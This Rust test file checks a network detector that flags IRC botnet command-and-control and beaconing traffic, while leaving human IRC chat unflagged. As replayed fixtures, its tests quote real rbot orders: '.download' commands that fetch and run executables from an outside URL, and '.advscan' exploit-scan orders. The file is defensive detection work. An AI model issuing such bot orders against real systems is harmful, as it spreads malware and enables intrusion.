//! C&C: IRC sessions with bot traits versus human sessions; beaconing.

use crate::util::*;
use stormwatch_detect::Detectors;
use stormwatch_model::*;

fn irc(prefix: Option<&str>, command: &str, params: &[&str]) -> IrcMessage {
    IrcMessage {
        prefix: prefix.map(str::to_string),
        command: command.into(),
        params: params.iter().map(|s| s.to_string()).collect(),
    }
}

struct Session {
    client: &'static str,
    server: &'static str,
    port: u16,
    flow: u64,
    nick: Option<String>,
    channels: Vec<(String, Option<String>)>,
}

impl Session {
    fn new(client: &'static str, server: &'static str, port: u16, flow: u64) -> Session {
        Session {
            client,
            server,
            port,
            flow,
            nick: None,
            channels: Vec::new(),
        }
    }

    fn send(
        &mut self,
        d: &mut Detectors,
        out: &mut Vec<Notice>,
        ms: i64,
        dir: Direction,
        msg: IrcMessage,
    ) {
        if dir == Direction::ToServer {
            match msg.command.as_str() {
                "NICK" => self.nick = msg.params.first().cloned(),
                "JOIN" => {
                    let key = msg.params.get(1).cloned();
                    if let Some(c) = msg.params.first() {
                        self.channels.push((c.clone(), key));
                    }
                }
                _ => {}
            }
        }
        let ev = IrcEvent {
            msg,
            nick: self.nick.clone(),
            channels: self.channels.clone(),
            ctcp: None,
        };
        let ctx = app_ctx(
            ms,
            self.flow,
            self.client,
            1049,
            self.server,
            self.port,
            dir,
        );
        d.on_app_event(&ctx, &AppEvent::Irc(ev), out);
    }

    fn detected(&self, d: &mut Detectors, out: &mut Vec<Notice>, ms: i64, masquerade: bool) {
        let ctx = app_ctx(
            ms,
            self.flow,
            self.client,
            1049,
            self.server,
            self.port,
            Direction::ToServer,
        );
        d.on_app_event(
            &ctx,
            &AppEvent::ProtoDetected {
                proto: AppProto::Irc,
                masquerade,
            },
            out,
        );
    }
}

fn c2_notices(out: &[Notice]) -> Vec<(&Notice, &C2Info)> {
    out.iter()
        .filter_map(|n| match &n.kind {
            NoticeKind::C2Channel(c) => Some((n, c)),
            _ => None,
        })
        .collect()
}

/// The 2004 IRC bot of `suricata-verify-irc-input.pcap`, message by message.
#[test]
fn rbot_session_is_c2_with_its_commands() {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    let mut s = Session::new("172.16.1.10", "69.64.34.124", 6667, 1);
    let srv = Some("hunt3d.devilz.net");
    s.detected(&mut d, &mut out, 0, false);
    s.send(
        &mut d,
        &mut out,
        1,
        ToServer,
        irc(None, "PASS", &["l0m3za"]),
    );
    s.send(
        &mut d,
        &mut out,
        2,
        ToServer,
        irc(None, "NICK", &["damn-0262937047"]),
    );
    s.send(
        &mut d,
        &mut out,
        3,
        ToServer,
        irc(None, "USER", &["ghmfeirsfnw", "0", "0", "damn-0262937047"]),
    );
    s.send(
        &mut d,
        &mut out,
        400,
        ToClient,
        irc(srv, "NOTICE", &["AUTH", "*** Looking up your hostname..."]),
    );
    s.send(
        &mut d,
        &mut out,
        500,
        ToClient,
        irc(
            srv,
            "001",
            &["damn-0262937047", "Welcome to the devilz IRC Network"],
        ),
    );
    assert!(
        c2_notices(&out).is_empty(),
        "a random nick alone is not enough"
    );
    s.send(
        &mut d,
        &mut out,
        900,
        ToServer,
        irc(None, "JOIN", &["#s01"]),
    );
    s.send(
        &mut d,
        &mut out,
        1_000,
        ToClient,
        irc(
            srv,
            "332",
            &[
                "damn-0262937047",
                "#s01",
                ".download http://www.wanees.net/bbnz.exe bbnz.exe 1",
            ],
        ),
    );
    let c = c2_notices(&out);
    assert_eq!(c.len(), 1);
    let (n, info) = c[0];
    assert_eq!(n.host, ip("172.16.1.10"));
    assert_eq!(n.peer, Some(ip("69.64.34.124")));
    assert_eq!(n.stage, Some(Stage::E4C2));
    assert_eq!(n.identifier, "c2:irc:172.16.1.10->69.64.34.124:6667");
    assert_eq!(info.nick.as_deref(), Some("damn-0262937047"));
    assert!(info.traits.contains(&"bot_command".to_string()));
    assert!(info.traits.contains(&"random_nick".to_string()));
    assert!(!info.traits.contains(&"irc_on_non_irc_port".to_string()));
    assert_eq!(
        info.commands,
        [".download http://www.wanees.net/bbnz.exe bbnz.exe 1"]
    );

    // The scan order in the keyed channel: one follow-up record for the new kind of order.
    s.send(
        &mut d,
        &mut out,
        2_000,
        ToServer,
        irc(None, "JOIN", &["#sl0w3r", "l03dx"]),
    );
    s.send(
        &mut d,
        &mut out,
        2_100,
        ToClient,
        irc(
            srv,
            "332",
            &[
                "damn-0262937047",
                "#sl0w3r",
                ".advscan dcom135 200 3 0 -r -s",
            ],
        ),
    );
    s.send(
        &mut d,
        &mut out,
        2_200,
        ToServer,
        irc(
            None,
            "PRIVMSG",
            &[
                "#s03",
                "[DOWNLOAD]: Downloaded 28.6 KB to ysbinstall_1000489_3.exe @ 28.6 KB/sec.",
            ],
        ),
    );
    // More downloads orders add nothing new.
    s.send(
        &mut d,
        &mut out,
        2_300,
        ToClient,
        irc(
            srv,
            "332",
            &[
                "damn-0262937047",
                "#s02",
                ".download http://x/jocker.exe jocker.exe 1",
            ],
        ),
    );
    let c = c2_notices(&out);
    assert_eq!(c.len(), 2, "{out:#?}");
    let (n2, info2) = c[1];
    assert_eq!(n2.identifier, "c2:irc:172.16.1.10->69.64.34.124:6667:scan");
    assert!(
        info2
            .commands
            .iter()
            .any(|c| c.starts_with(".advscan dcom135"))
    );
    assert!(info2.traits.contains(&"keyed_channel".to_string()));
    assert!(info2.channels.iter().any(|c| c == "#sl0w3r (key l03dx)"));
}

#[test]
fn human_sessions_are_not_c2() {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    // zeek-irc-basic: brotest chats in #brotest.
    let mut a = Session::new("192.168.6.110", "130.239.18.119", 6667, 10);
    a.detected(&mut d, &mut out, 0, false);
    a.send(
        &mut d,
        &mut out,
        10,
        ToServer,
        irc(None, "NICK", &["brotest"]),
    );
    a.send(
        &mut d,
        &mut out,
        11,
        ToServer,
        irc(None, "USER", &["brotest", "*", "*", "brotest"]),
    );
    a.send(
        &mut d,
        &mut out,
        3_000,
        ToServer,
        irc(None, "JOIN", &["#brotest"]),
    );
    a.send(
        &mut d,
        &mut out,
        4_000,
        ToServer,
        irc(None, "PRIVMSG", &["#brotest", "test"]),
    );
    a.send(
        &mut d,
        &mut out,
        5_000,
        ToClient,
        irc(Some("someone!u@h"), "PRIVMSG", &["#brotest", "!help"]),
    );
    // protocoldetector-irc: #botnetchannel, server password, no commands, then idle
    // for two hours (a lurker).
    let mut b = Session::new("192.168.2.6", "144.76.78.137", 6667, 11);
    b.detected(&mut d, &mut out, 0, false);
    b.send(&mut d, &mut out, 1, ToServer, irc(None, "PASS", &["clave"]));
    b.send(
        &mut d,
        &mut out,
        2,
        ToServer,
        irc(None, "NICK", &["jpalanco"]),
    );
    b.send(
        &mut d,
        &mut out,
        3,
        ToServer,
        irc(None, "JOIN", &["#botnetchannel"]),
    );
    b.send(
        &mut d,
        &mut out,
        4,
        ToServer,
        irc(None, "WHO", &["#botnetchannel"]),
    );
    b.send(
        &mut d,
        &mut out,
        5,
        ToClient,
        irc(
            Some("brutus"),
            "332",
            &[
                "jpalanco",
                "#botnetchannel",
                "welcome to the botnet channel",
            ],
        ),
    );
    for sec in 1..=7_200 {
        d.tick(ts_ms(sec * 1000), &mut out);
    }
    d.finish(ts_ms(7_300_000), &mut out);
    assert!(out.is_empty(), "{out:#?}");
}

#[test]
fn trojan_irc_on_443_is_c2_and_masquerade() {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    let mut s = Session::new("10.1.1.20", "198.51.100.9", 443, 20);
    s.detected(&mut d, &mut out, 0, true);
    let masq: Vec<_> = out
        .iter()
        .filter(|n| kind_name(n) == "masquerade")
        .collect();
    assert_eq!(masq.len(), 1);
    assert_eq!(masq[0].stage, Some(Stage::E7Masquerade));
    assert_eq!(masq[0].host, ip("10.1.1.20"));
    match &masq[0].kind {
        NoticeKind::Masquerade {
            proto,
            server,
            port,
            registered,
        } => {
            assert_eq!(*proto, AppProto::Irc);
            assert_eq!(*server, ip("198.51.100.9"));
            assert_eq!(*port, 443);
            assert_eq!(registered, "https");
        }
        _ => unreachable!(),
    }
    assert!(c2_notices(&out).is_empty(), "the port alone is not enough");
    s.send(
        &mut d,
        &mut out,
        100,
        ToServer,
        irc(None, "NICK", &["xX123"]),
    );
    let c = c2_notices(&out);
    assert_eq!(c.len(), 1, "non-IRC port (2) + machine nick (1) reach 3");
    assert_eq!(c[0].1.port, 443);
    assert_eq!(c[0].1.traits, ["irc_on_non_irc_port", "random_nick"]);
}

#[test]
fn human_on_443_who_talks_is_only_a_masquerade() {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    let mut s = Session::new("10.1.1.21", "198.51.100.9", 443, 21);
    s.detected(&mut d, &mut out, 0, true);
    s.send(
        &mut d,
        &mut out,
        100,
        ToServer,
        irc(None, "NICK", &["alice"]),
    );
    s.send(
        &mut d,
        &mut out,
        200,
        ToServer,
        irc(None, "JOIN", &["#rust"]),
    );
    s.send(
        &mut d,
        &mut out,
        300,
        ToServer,
        irc(None, "PRIVMSG", &["#rust", "hi all"]),
    );
    for sec in 1..=1_000 {
        d.tick(ts_ms(sec * 1000), &mut out);
    }
    let kinds: Vec<_> = out.iter().map(kind_name).collect();
    assert_eq!(kinds, ["masquerade"]);
}

#[test]
fn silent_trojan_with_plain_nick_on_443_is_c2_after_the_silence() {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    let mut s = Session::new("10.1.1.22", "198.51.100.9", 443, 22);
    s.detected(&mut d, &mut out, 0, true);
    s.send(&mut d, &mut out, 100, ToServer, irc(None, "NICK", &["mip"]));
    s.send(
        &mut d,
        &mut out,
        200,
        ToServer,
        irc(None, "JOIN", &["#mip"]),
    );
    for sec in 1..=700 {
        d.tick(ts_ms(sec * 1000), &mut out);
    }
    let c = c2_notices(&out);
    assert_eq!(c.len(), 1);
    assert_eq!(
        c[0].0.ts,
        ts_ms(600_000),
        "decided when the silence reached irc_silent_secs"
    );
    assert!(c[0].1.traits.contains(&"silent_client".to_string()));
}

#[test]
fn regular_check_ins_are_a_beacon_and_browsing_is_not() {
    let mut d = detectors();
    let mut out = Vec::new();
    // Every 60 s ± 2 s, ~700 bytes each, 30 times.
    for i in 0..30i64 {
        let start = i * 60_000 + (i * 7919) % 2_000;
        let rec = flow_rec(
            100 + i as u64,
            "10.0.0.12",
            50_000 + i as u16,
            "203.0.113.80",
            443,
            start,
            start + 300,
            "ShADadFf",
            700 + (i % 3) as u64,
            4_000,
            AppProto::Tls,
        );
        d.on_flow_end(&rec, &mut out);
    }
    // A browser: irregular times and sizes to another server.
    let starts = [
        0i64, 400, 9_000, 9_500, 70_000, 71_000, 200_000, 200_100, 500_000, 900_000, 901_000,
        1_500_000,
    ];
    for (i, s) in starts.iter().enumerate() {
        let rec = flow_rec(
            500 + i as u64,
            "10.0.0.12",
            40_000 + i as u16,
            "198.51.100.20",
            443,
            *s,
            s + 200,
            "ShADadFf",
            [400, 9_000, 1_200, 30_000][i % 4],
            50_000,
            AppProto::Tls,
        );
        d.on_flow_end(&rec, &mut out);
    }
    let b: Vec<_> = out
        .iter()
        .filter_map(|n| match &n.kind {
            NoticeKind::Beacon(c) => Some((n, c)),
            _ => None,
        })
        .collect();
    assert_eq!(b.len(), 1, "{out:#?}");
    let (n, c) = b[0];
    assert_eq!(n.host, ip("10.0.0.12"));
    assert_eq!(n.peer, Some(ip("203.0.113.80")));
    assert_eq!(n.stage, Some(Stage::E4C2));
    assert_eq!(c.proto, AppProto::Tls);
    let (interval, score) = c.beacon.unwrap();
    assert!((interval - 60.0).abs() < 3.0, "{interval}");
    assert!(score >= 0.8);
}

/// Counters of a run (but `detect.state_bytes`).
type Counters = Vec<(&'static str, u64)>;

/// Replays an IRC session (a bot on port 443 going silent, then taking
/// orders) message by message. With `ask`, each message is first offered to
/// `Detectors::wants_irc_message`, as the protocol stage does, and its event is
/// delivered only when wanted. Returns the notices, the counters and the
/// (time, command) of the messages skipped.
fn replay_bot_session(ask: bool) -> (Vec<Notice>, Counters, Vec<(i64, String)>) {
    use Direction::*;
    let mut d = detectors();
    let mut out = Vec::new();
    let mut s = Session::new("10.1.1.20", "198.51.100.9", 443, 7);
    let srv = Some("irc.example.net");
    let mut skipped = Vec::new();
    s.detected(&mut d, &mut out, 0, true);
    let script: Vec<(i64, Direction, IrcMessage)> = vec![
        (10, ToServer, irc(None, "NICK", &["USA|4417839"])),
        (11, ToServer, irc(None, "USER", &["x", "0", "0", "x"])),
        (20, ToClient, irc(srv, "NOTICE", &["AUTH", "*** hello"])),
        (30, ToClient, irc(srv, "001", &["USA|4417839", "Welcome"])),
        (31, ToClient, irc(srv, "002", &["USA|4417839", "Your host"])),
        (
            32,
            ToClient,
            irc(srv, "005", &["USA|4417839", "CHANTYPES=#"]),
        ),
        (33, ToClient, irc(srv, "375", &["USA|4417839", "- motd -"])),
        (34, ToClient, irc(srv, "372", &["USA|4417839", "- hi"])),
        (35, ToClient, irc(srv, "376", &["USA|4417839", "End"])),
        (36, ToClient, irc(srv, "MODE", &["USA|4417839", "+i"])),
        (40, ToServer, irc(None, "JOIN", &["#mip", "k3y"])),
        (
            41,
            ToClient,
            irc(srv, "353", &["USA|4417839", "=", "#mip", "a b"]),
        ),
        (
            42,
            ToClient,
            irc(srv, "366", &["USA|4417839", "#mip", "End"]),
        ),
        (60_000, ToClient, irc(None, "PING", &["irc.example.net"])),
        (60_001, ToServer, irc(None, "PONG", &["irc.example.net"])),
        // Past the silent-client deadline: due work runs on this message.
        (400_000, ToClient, irc(None, "PING", &["irc.example.net"])),
        (400_001, ToServer, irc(None, "PONG", &["irc.example.net"])),
        (
            400_100,
            ToClient,
            irc(
                srv,
                "332",
                &["USA|4417839", "#mip", ".advscan lsass 100 5 0 -r"],
            ),
        ),
        (
            400_200,
            ToServer,
            irc(None, "PRIVMSG", &["#mip", "scanning"]),
        ),
        (400_300, ToClient, irc(None, "PING", &["irc.example.net"])),
    ];
    for (ms, dir, msg) in script {
        if ask {
            // What the protocol stage passes: the session as it stands after
            // this message (the helper tracks NICK and JOIN before sending).
            let mut nick = s.nick.clone();
            let mut channels = s.channels.clone();
            if dir == ToServer && msg.command == "NICK" {
                nick = msg.params.first().cloned();
            }
            if dir == ToServer && msg.command == "JOIN" {
                channels.push((msg.params[0].clone(), msg.params.get(1).cloned()));
            }
            let ctx = app_ctx(ms, s.flow, s.client, 1049, s.server, s.port, dir);
            if !d.wants_irc_message(&ctx, msg.command.as_bytes(), nick.as_deref(), &channels) {
                skipped.push((ms, msg.command.clone()));
                if dir == ToServer && msg.command == "NICK" {
                    s.nick = nick;
                }
                continue;
            }
        }
        s.send(&mut d, &mut out, ms, dir, msg);
    }
    d.finish(ts_ms(500_000), &mut out);
    let counters = d
        .counters()
        .into_iter()
        .filter(|(k, _)| *k != "detect.state_bytes")
        .collect();
    (out, counters, skipped)
}

/// Messages the IRC detector does not read (numerics, PING/PONG, MODE, USER)
/// need no event: skipping them as `wants_irc_message` allows gives the same
/// notices and counters as delivering every event, while the messages it
/// reads (a new nick, a JOIN, orders, talk) and the one on which due work runs
/// are still delivered.
#[test]
fn unread_irc_messages_can_be_skipped_without_changing_the_findings() {
    let (all, all_counters, none_skipped) = replay_bot_session(false);
    let (asked, asked_counters, skipped) = replay_bot_session(true);
    assert!(none_skipped.is_empty());
    assert_eq!(format!("{all:#?}"), format!("{asked:#?}"));
    assert_eq!(all_counters, asked_counters);
    assert!(!c2_notices(&all).is_empty(), "the bot is found: {all:#?}");
    let cmds: Vec<&str> = skipped.iter().map(|(_, c)| c.as_str()).collect();
    for read in ["NICK", "JOIN", "NOTICE", "332", "PRIVMSG"] {
        assert!(!cmds.contains(&read), "{read} skipped: {skipped:?}");
    }
    for unread in [
        "USER", "001", "002", "005", "375", "372", "376", "MODE", "353", "366",
    ] {
        assert!(cmds.contains(&unread), "{unread} delivered: {skipped:?}");
    }
    assert!(
        cmds.contains(&"PING") && cmds.contains(&"PONG"),
        "{skipped:?}"
    );
    // The silent-client deadline falls due on the PING at 400 s.
    assert!(
        !skipped.contains(&(400_000, "PING".to_string())),
        "{skipped:?}"
    );
}
